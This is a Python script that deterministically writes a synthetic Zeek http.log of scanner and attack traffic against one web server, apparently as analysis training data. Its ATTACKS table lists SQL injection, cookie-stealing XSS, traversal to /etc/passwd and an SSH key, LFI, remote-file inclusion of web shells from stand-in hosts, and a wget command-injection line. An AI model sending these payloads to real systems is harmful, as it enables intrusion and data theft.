#!/usr/bin/python3
"""Writes examples/http.log: a small, realistic Bro 2.x http.log (Zeek TSV).

    /usr/bin/python3 examples/make_example_log.py [-o examples/http.log]

Deterministic: its own PRNG (splitmix64) with a fixed seed and integer
arithmetic decide every byte, so any Python 3 writes the same file.

The traffic (2012-03-16/17 UTC, ~8,700 requests to one web server,
192.168.229.251) imitates the capture the analysts' notebook looked at:

  192.168.203.63   DirBuster-0.12, 17:40-19:10, burst 18:00-18:20 (peak hour)
  192.168.202.79   Nmap Scripting Engine, 13:05-13:35
  192.168.202.110  Nikto 2.1.5, 14:00-14:40: traversal, LFI, RFI, XSS, cmd injection
  192.168.202.102  Skipfish 2.10b, 15:10-16:50
  192.168.202.138  sqlmap 1.0-dev, 16:00-16:30: SQL injection
  192.168.202.140  a browser UA brute-forcing HTTP Basic auth on /admin/, 19:30-19:35
  192.168.202.x    ordinary browsers, 12:30-21:59 and 03:00-05:59 the next day

Most answers are 404; some requests have no reply (status '-'). No request
falls in 22:00-02:59, a gap of five empty hours.
"""
import argparse
import os

MASK = (1 << 64) - 1


class Rng:
    """splitmix64; uniform integers by multiply-shift, no floats."""

    def __init__(self, seed):
        self.s = seed & MASK

    def next(self):
        self.s = (self.s + 0x9E3779B97F4A7C15) & MASK
        z = self.s
        z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & MASK
        z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & MASK
        return z ^ (z >> 31)

    def below(self, n):
        return ((self.next() >> 32) * n) >> 32

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def weighted(self, pairs):
        """pairs: [(value, weight), ...] with integer weights."""
        total = sum(w for _, w in pairs)
        r = self.below(total)
        for v, w in pairs:
            if r < w:
                return v
            r -= w
        raise AssertionError


SEED = 20120316
DAY = 1331856000            # 2012-03-16T00:00:00Z
SERVER = "192.168.229.251"

MSG = {200: "OK", 301: "Moved Permanently", 302: "Found", 304: "Not Modified",
       400: "Bad Request", 401: "Unauthorized", 403: "Forbidden", 404: "Not Found",
       500: "Internal Server Error", 501: "Not Implemented"}

UA = {
    "dirbuster": "DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "nmap": "Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)",
    "nikto": "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:%06d)",
    "skipfish": "Mozilla/5.0 SF/2.10b",
    "sqlmap": "sqlmap/1.0-dev-nongit-20120316 (http://sqlmap.org)",
}
BROWSERS = [
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.0)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:10.0.2) Gecko/20100101 Firefox/10.0.2",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/535.11 (KHTML, like Gecko) Chrome/17.0.963.79 Safari/535.11",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_3) AppleWebKit/534.53.11 (KHTML, like Gecko) Version/5.1.3 Safari/534.53.10",
]

WORDS = ("admin backup test old images img uploads upload cgi-bin private config db data logs "
         "tmp temp include includes lib scripts js css files docs download downloads archive "
         "install setup web webadmin site sites cms portal login user users account members "
         "phpmyadmin mysql sql dump export import cache secret hidden dev staging beta api "
         "v1 v2 app apps bin etc home www html public static assets media manager panel").split()
EXTS = ["", "/", ".php", ".html", ".bak", ".old", ".txt", ".zip", ".asp", ".inc"]

PAGES = ["/", "/index.php", "/about.html", "/contact.php", "/products.php?id=12",
         "/products.php?id=7", "/news/2012/03/index.html", "/search.php?q=shoes",
         "/login.php", "/css/style.css", "/js/jquery-1.7.1.min.js", "/js/app.js",
         "/images/logo.png", "/images/banner.jpg", "/images/bg.gif"]

ATTACKS = {
    "sqli": [
        "/index.php?id=1' OR '1'='1",
        "/index.php?id=1' OR 1=1--",
        "/index.php?id=1 UNION SELECT username,password FROM users--",
        "/index.php?id=-1 UNION ALL SELECT NULL,CONCAT(0x71766a7a71,0x4b4c,0x7176717a71),NULL--",
        "/index.php?id=1%27%20AND%201%3D1--",
        "/index.php?id=1 AND SLEEP(5)",
        "/index.php?id=1;DROP TABLE users--",
        "/products.php?id=12 AND 1=CONVERT(int,(SELECT @@version))",
    ],
    "xss": [
        "/search.php?q=<script>alert(1)</script>",
        "/search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/guestbook.php?name=\"><img src=x onerror=alert(1)>",
        "/?mod=<script>alert(document.cookie)</script>&op=browse",
        "/index.php?lang=<svg/onload=alert('xss')>",
    ],
    "traversal": [   # (those naming a known file count as lfi)
        "/../../../../../../etc/passwd",
        "/cgi-bin/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/..\\..\\..\\..\\windows\\win.ini",
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/images/../../../../var/www/html/config.inc",
        "/download.php?path=..%2f..%2f..%2fhome%2fadmin%2f.ssh%2fid_rsa",
        "/files/..%c0%af..%c0%af..%c0%afapp/settings.py",
    ],
    "lfi": [
        "/index.php?page=../../../../etc/passwd%00",
        "/index.php?page=/etc/passwd",
        "/index.php?file=php://filter/convert.base64-encode/resource=index.php",
        "/download.php?file=../../../../proc/self/environ",
    ],
    "rfi": [
        "/index.php?page=http://evil.example.com/shell.txt?",
        "/include.php?path=http://203.0.113.5/c99.txt??",
        "/modules.php?load=ftp://203.0.113.5/r57.php",
    ],
    "cmd_injection": [
        "/cgi-bin/test.cgi?cmd=;cat /etc/passwd",
        "/ping.php?host=127.0.0.1|id",
        "/ping.php?host=127.0.0.1;uname -a",
        "/index.php?x=$(wget http://203.0.113.5/x.sh)",
        "/cgi-bin/status?q=`id`",
    ],
}

rng = Rng(SEED)
B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def ident(prefix):
    return prefix + "".join(B62[rng.below(62)] for _ in range(17))


def at(h, m=0, s=0):
    """Micro-seconds since the epoch of 2012-03-16 h:m:s UTC (h may pass 24)."""
    return (DAY + h * 3600 + m * 60 + s) * 1000000


rows = []   # (ts_us, fields...)


def emit(ts, src, ua, method, uri, status, resp_len=None, username="-", req_len=0,
         referrer="-"):
    if status is None:          # no reply was seen
        code, msg, resp_len, fuid, mime = "-", "-", 0, "-", "-"
    else:
        code, msg = str(status), MSG[status]
        if resp_len is None:
            resp_len = 200 + rng.below(9000) if status == 200 else 150 + rng.below(400)
        if method == "HEAD" or resp_len == 0 or status == 304:
            resp_len, fuid, mime = 0, "-", "-"
        else:
            fuid, mime = ident("F"), "text/html"
    rows.append((ts, [
        "%d.%06d" % divmod(ts, 1000000), ident("C"), src, str(1024 + rng.below(64000)),
        SERVER, "80", "1", method, SERVER, escape(uri), referrer, ua, str(req_len),
        str(resp_len), code, msg, "-", "-", "-", "(empty)", username, "-", "-", "-", "-",
        fuid, mime]))


def escape(s):
    """Zeek's ASCII writer: backslash doubled, tab and non-printables as \\xNN."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch == "\\":
            out.append("\\\\")
        elif o < 0x20 or o >= 0x7f:
            out.append("\\x%02x" % o)
        else:
            out.append(ch)
    return "".join(out)


def times(start, end, n):
    """n timestamps (us) uniform in [start, end)."""
    return [start + rng.below(end - start) for _ in range(n)]


def dirbuster():
    ua = UA["dirbuster"]
    for start, end, n in ((at(17, 40), at(18), 420), (at(18), at(18, 20), 2500),
                          (at(18, 20), at(19, 10), 780)):
        for ts in times(start, end, n):
            w = rng.pick(WORDS)
            uri = "/" + w + ("%d" % rng.below(10) if rng.below(4) == 0 else "") + rng.pick(EXTS)
            if rng.below(5) == 0:
                uri = "/" + rng.pick(WORDS) + uri
            status = rng.weighted([(404, 880), (200, 50), (403, 40), (301, 20), (None, 10)])
            emit(ts, "192.168.203.63", ua, rng.weighted([("HEAD", 7), ("GET", 3)]), uri, status)


def nmap():
    ua = UA["nmap"]
    fixed = ["/", "/robots.txt", "/HNAP1", "/evox/about", "/.git/HEAD", "/favicon.ico",
             "/sdk", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/server-status"]
    for ts in times(at(13, 5), at(13, 35), 520):
        if rng.below(3) == 0:
            uri = "/nmaplowercheck%d" % (1331903100 + rng.below(1800))
        else:
            uri = rng.pick(fixed)
        method = rng.weighted([("GET", 80), ("OPTIONS", 8), ("PROPFIND", 6), ("POST", 6)])
        status = rng.weighted([(404, 800), (200, 100), (400, 50), (501, 40), (None, 10)])
        emit(ts, "192.168.202.79", ua, method, uri, status)


def nikto():
    n = 0
    probes = ["/cgi-bin/test-cgi", "/phpmyadmin/", "/admin.php", "/manager/html", "/.htpasswd",
              "/server-info", "/webdav/", "/iisadmin/", "/_vti_bin/shtml.dll", "/CFIDE/administrator/"]
    attacks = ATTACKS["traversal"] + ATTACKS["lfi"] + ATTACKS["rfi"] + \
        ATTACKS["cmd_injection"] + ATTACKS["xss"][3:]
    for ts in times(at(14), at(14, 40), 930):
        n += 1
        if rng.below(10) < 3:
            uri = rng.pick(attacks)
            status = rng.weighted([(404, 50), (400, 25), (403, 20), (200, 5)])
        else:
            uri = rng.pick(probes) if rng.below(2) else "/" + rng.pick(WORDS) + rng.pick(EXTS)
            status = rng.weighted([(404, 800), (200, 80), (403, 70), (400, 30), (None, 20)])
        emit(ts, "192.168.202.110", UA["nikto"] % n, "GET", uri, status)


def skipfish():
    for ts in times(at(15, 10), at(16, 50), 1050):
        r = rng.below(20)
        if r == 0:
            uri = rng.pick(ATTACKS["xss"])
        elif r == 1:
            uri = "/sfi%d%s" % (rng.below(100000), rng.pick([".sf", ".asp", "/"]))
        else:
            uri = "/" + rng.pick(WORDS) + rng.pick(EXTS) + rng.pick(["", "~", ".old", "-"])
        status = rng.weighted([(404, 700), (200, 200), (403, 50), (400, 30), (None, 20)])
        emit(ts, "192.168.202.102", UA["skipfish"], rng.weighted([("GET", 9), ("POST", 1)]),
             uri, status)


def sqlmap():
    for ts in times(at(16), at(16, 30), 320):
        uri = rng.pick(ATTACKS["sqli"]) if rng.below(5) else "/index.php?id=1"
        status = rng.weighted([(200, 70), (500, 25), (None, 5)])
        emit(ts, "192.168.202.138", UA["sqlmap"], "GET", uri, status)


def brute_force():
    ts_list = sorted(times(at(19, 30), at(19, 35), 420))
    for i, ts in enumerate(ts_list):
        ok = i == len(ts_list) - 1
        emit(ts, "192.168.202.140", BROWSERS[0], "GET", "/admin/", 200 if ok else 401,
             username="admin")


def browsers():
    hosts = ["192.168.202.%d" % h for h in (11, 12, 15, 21, 24, 33, 40, 57, 61, 76, 88, 95)]
    ua_of = {h: BROWSERS[i % len(BROWSERS)] for i, h in enumerate(hosts)}
    for start, end, n in ((at(12, 30), at(22), 1600), (at(27), at(30), 240)):
        for ts in times(start, end, n):
            src = rng.pick(hosts)
            uri = rng.pick(PAGES) if rng.below(25) else rng.pick(["/favicon.ico", "/old-page.html"])
            if uri in ("/favicon.ico", "/old-page.html"):
                status = 404
            else:
                status = rng.weighted([(200, 84), (304, 12), (302, 3), (None, 1)])
            method = "POST" if uri == "/login.php" and rng.below(2) else "GET"
            emit(ts, src, ua_of[src], method, uri, status, req_len=48 if method == "POST" else 0,
                 referrer="http://%s/" % SERVER if uri != "/" else "-")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-o", "--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                        "http.log"))
    out = ap.parse_args().out
    for part in (browsers, nmap, nikto, skipfish, sqlmap, dirbuster, brute_force):
        part()
    rows.sort(key=lambda r: r[0])
    fields = ("ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri "
              "referrer user_agent request_body_len response_body_len status_code status_msg "
              "info_code info_msg filename tags username password proxied orig_fuids "
              "orig_mime_types resp_fuids resp_mime_types").split()
    types = ("time string addr port addr port count string string string string string count "
             "count count string count string string table[enum] string string table[string] "
             "vector[string] vector[string] vector[string] vector[string]").split()
    with open(out, "w", encoding="ascii", newline="\n") as f:
        f.write("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n"
                "#unset_field\t-\n#path\thttp\n#open\t2012-03-16-12-30-00\n")
        f.write("#fields\t" + "\t".join(fields) + "\n")
        f.write("#types\t" + "\t".join(types) + "\n")
        for _, cols in rows:
            f.write("\t".join(cols) + "\n")
        f.write("#close\t2012-03-17-06-00-00\n")


if __name__ == "__main__":
    main()
